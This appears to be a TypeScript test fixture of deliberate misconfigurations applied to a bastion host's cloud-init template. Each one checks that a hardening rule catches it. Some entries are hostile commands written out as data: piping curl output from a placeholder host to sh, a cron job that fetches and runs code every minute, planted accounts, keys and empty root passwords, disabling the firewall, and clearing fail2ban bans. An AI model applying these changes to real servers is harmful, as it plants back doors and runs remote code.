import type { Change, Mutation } from "../../mutation";

const bastion = (from: RegExp, replacement: string): readonly Change[] => [
  { edit: "bastion-template", path: "userData", from, with: replacement },
];
const runs = (command: string) => bastion(/^runcmd:$/m, `runcmd:\n- ${command}`);
const writes = (path: string, ...lines: readonly string[]) =>
  bastion(
    /^write_files:$/m,
    `write_files:\n- path: ${path}\n  content: |\n${lines.map((line) => `    ${line}`).join("\n")}`,
  );
const sshd = (line: string) => bastion(/ {4}PermitRootLogin no/, `    ${line}\n    PermitRootLogin no`);
const jail = (line: string) => bastion(/ {4}maxretry = 5/, `    maxretry = 5\n    ${line}`);
const closes = /^- \[\/usr\/local\/sbin\/close-services\]$/m;

/** Machines whose settings stand, and are undone by something else. */
export const servicesOff: readonly Mutation[] = [
  {
    name: "a service is started when the others are closed",
    rule: "host-runs-only-listed-services",
    changes: bastion(closes, "- [/usr/local/sbin/close-services]\n- [systemctl, enable, --now, vsftpd.service]"),
  },
  {
    name: "services are closed before anything is installed",
    rule: "host-runs-only-listed-services",
    changes: [...bastion(closes, ""), ...bastion(/^bootcmd:$/m, "bootcmd:\n- [/usr/local/sbin/close-services]")],
  },
  {
    name: "what closes services ends before its work",
    rule: "host-runs-only-listed-services",
    changes: bastion(/#!\/bin\/sh -euf/, "#!/bin/sh -euf\n    exit 0"),
  },
  {
    name: "what closes services is overwritten",
    rule: "host-has-no-back-door",
    changes: runs("[sh, -c, 'echo true > /usr/local/sbin/close-services']"),
  },
  {
    name: "file shares are on the list",
    rule: "host-runs-only-listed-services",
    changes: bastion(/units: \[/, "units: [smbd.service, "),
  },
  {
    name: "telnet is installed",
    rule: "host-runs-only-listed-services",
    changes: bastion(/packages: \[/, "packages: [telnetd, "),
  },
];

export const ssh: readonly Mutation[] = [
  {
    name: "a command makes an account",
    rule: "host-has-no-back-door",
    changes: runs("[useradd, -m, -p, hash, mallory]"),
  },
  {
    name: "a command sets a password",
    rule: "host-has-no-back-door",
    changes: runs("[sh, -c, 'echo ada_l:letmein | chpasswd']"),
  },
  {
    name: "a second sshd takes passwords",
    rule: "host-has-no-back-door",
    changes: runs("[/usr/sbin/sshd, -p, '22', -o, PasswordAuthentication=yes]"),
  },
  {
    name: "a command edits sshd's settings",
    rule: "host-has-no-back-door",
    changes: runs("[sed, -i, s/no/yes/, /etc/ssh/sshd_config.d/00-hardened.conf]"),
  },
  {
    name: "whatever is fetched runs",
    rule: "host-has-no-back-door",
    changes: runs("[sh, -c, 'curl https://example.org/x | sh']"),
  },
  {
    name: "a job fetches and runs every minute",
    rule: "host-has-no-back-door",
    changes: writes("/etc/cron.d/x", "* * * * * root curl https://example.org/x | sh"),
  },
  {
    name: "root's keys are written",
    rule: "host-has-no-back-door",
    changes: writes("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA"),
  },
  {
    name: "the accounts are written",
    rule: "host-has-no-back-door",
    changes: writes("/etc/passwd", "root::0:0::/root:/bin/bash"),
  },
  {
    name: "a person has a key that nobody registered",
    rule: "host-has-no-planted-key",
    changes: bastion(
      /ssh_authorized_keys: \[/,
      "ssh_authorized_keys: [ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA, ",
    ),
  },
  {
    name: "a person's keys are fetched from elsewhere",
    rule: "host-has-no-planted-key",
    changes: bastion(/- name: ada_l$/m, "- name: ada_l\n  ssh_import_id: [gh:somebody]"),
  },
  {
    name: "keys come from a command",
    rule: "host-has-no-planted-key",
    changes: sshd("AuthorizedKeysCommand /usr/bin/keys"),
  },
  {
    name: "keys come from where anybody writes",
    rule: "host-has-no-planted-key",
    changes: sshd("AuthorizedKeysFile /tmp/keys"),
  },
  {
    name: "whoever an authority signs may log in",
    rule: "host-has-no-planted-key",
    changes: sshd("TrustedUserCAKeys /etc/ssh/ca"),
  },
  { name: "passwords of no characters", rule: "host-takes-keys-only", changes: sshd("PermitEmptyPasswords yes") },
  { name: "other machines vouch", rule: "host-takes-keys-only", changes: sshd("HostbasedAuthentication yes") },
  { name: "no cipher at all", rule: "host-uses-modern-ssh-ciphers", changes: bastion(/Ciphers /, "Ciphers none,") },
  {
    name: "people's keys signed with SHA-1",
    rule: "host-uses-modern-ssh-ciphers",
    changes: bastion(/PubkeyAcceptedAlgorithms /, "PubkeyAcceptedAlgorithms ssh-rsa,"),
  },
];

export const firewalls: readonly Mutation[] = [
  {
    name: "a command opens the servers' firewall",
    rule: "host-has-no-back-door",
    changes: runs("[iptables, -P, INPUT, ACCEPT]"),
  },
  {
    name: "the servers' firewall starts nothing",
    rule: "host-has-no-back-door",
    changes: writes("/etc/systemd/system/nftables.service.d/x.conf", "[Service]", "ExecStart=", "ExecStart=/bin/true"),
  },
  {
    name: "the servers' firewall accepts a thousand ports",
    rule: "host-firewall-denies-by-default",
    changes: bastion(/iif "lo" accept/, 'tcp dport 1-1000 accept\n      iif "lo" accept'),
  },
];

export const loginDelay: readonly Mutation[] = [
  {
    name: "strangers are spared in parts",
    rule: "host-delays-repeated-logins",
    changes: jail("ignoreip = 8.0.0.0/9 9.0.0.0/9"),
  },
  {
    name: "a command spares everybody",
    rule: "host-delays-repeated-logins",
    changes: jail("ignorecommand = /bin/true"),
  },
  {
    name: "bans last a second",
    rule: "host-delays-repeated-logins",
    changes: bastion(/bantime = 1m/, "bantime = 1"),
  },
  {
    name: "bans grow to a minute",
    rule: "host-delays-repeated-logins",
    changes: bastion(/bantime\.maxtime = 1w/, "bantime.maxtime = 1m"),
  },
  {
    name: "bans are multiplied by one",
    rule: "host-delays-repeated-logins",
    changes: jail("bantime.multipliers = 1 1 1"),
  },
  {
    name: "attempts are forgotten at once",
    rule: "host-delays-repeated-logins",
    changes: bastion(/findtime = 10m/, "findtime = 1"),
  },
  {
    name: "bans do nothing",
    rule: "host-delays-repeated-logins",
    changes: bastion(/banaction = .*/, "banaction = dummy"),
  },
  {
    name: "bans are on a port where sshd is not",
    rule: "host-delays-repeated-logins",
    changes: bastion(/banaction = .*/, "banaction = nftables-multiport"),
  },
  {
    name: "another program's filter",
    rule: "host-delays-repeated-logins",
    changes: bastion(/filter = sshd\[publickey=any\]/, "filter = nginx-http-auth"),
  },
  {
    name: "a filter that finds nothing",
    rule: "host-delays-repeated-logins",
    changes: bastion(/journalmatch = _SYSTEMD_UNIT=ssh\.service/, "journalmatch = _SYSTEMD_UNIT=never.service"),
  },
  { name: "bans are lifted at once", rule: "host-has-no-back-door", changes: runs("[fail2ban-client, unban, --all]") },
];
